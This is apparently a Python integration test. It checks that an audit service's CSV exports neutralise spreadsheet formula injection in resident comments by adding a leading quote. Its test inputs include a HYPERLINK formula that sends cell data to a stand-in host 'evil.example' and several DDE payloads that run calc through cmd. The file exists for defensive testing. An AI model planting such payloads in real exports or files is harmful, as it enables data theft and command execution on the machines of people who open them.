"""Issue 18 #6: a resident's comment `=HYPERLINK(...)` reaches the inspector's CSV export as
text, not as a live formula (OWASP: cells beginning with = + - @ tab CR get a leading ')."""

from __future__ import annotations

import csv
import io

import pytest

from ...polling import eventually
from .support import envelope, make_keys, producer, publish, running_audit, settings_for

pytestmark = pytest.mark.integration

HOSTILE = {
    "case-eq": '=HYPERLINK("http://evil.example/?"&A1,"点此查看")',
    "case-plus": "+cmd|' /C calc'!A0",
    "case-minus": "-2+3+cmd|' /C calc'!A0",
    "case-at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "case-tab": "\t=1+1",
    "case-cr": "\r=1+1",
    "case-fine": "办事很快，态度很好",
}


async def test_formula_cells_are_neutralised_in_both_csv_exports(infra, pg_schema, topics) -> None:
    (intake,) = await topics("intake")
    keys = make_keys()
    settings = settings_for(infra, pg_schema.schema, [intake], keys)
    events = [
        envelope(
            "intake.service_evaluated",
            case,
            {"case_id": case, "rating": "bad", "comment": comment},
            actor="resident-1",
            role="resident",
            org_id=None,
            tier=None,
        )
        for case, comment in HOSTILE.items()
    ]
    insp = keys.headers("inspector", sub="insp-1")
    async with running_audit(settings, keys) as (_app, client), producer(infra.bootstrap) as p:
        await publish(p, intake, events)

        async def export(path: str) -> list[dict[str, str]]:
            r = await client.get(
                path,
                params={"event_type": "intake.service_evaluated", "format": "csv"},
                headers=insp,
            )
            assert r.status_code == 200, r.text
            return list(csv.DictReader(io.StringIO(r.text, newline="")))

        for path in ("/v1/inspect/events", "/v1/inspect/events/export"):
            rows = await eventually(
                lambda path=path: export(path),
                lambda rows: len(rows) == len(HOSTILE) and all(r["reason_text"] for r in rows),
                what=f"every evaluation with its comment in {path}",
                show=lambda rows: [(r["stream_id"], r["reason_text"]) for r in rows],
            )
            cells = {r["stream_id"]: r["reason_text"] for r in rows}
            for case, comment in HOSTILE.items():
                if case == "case-fine":
                    assert cells[case] == comment
                else:
                    assert cells[case] == "'" + comment, (case, cells[case])
            for r in rows:
                for value in r.values():
                    assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), r
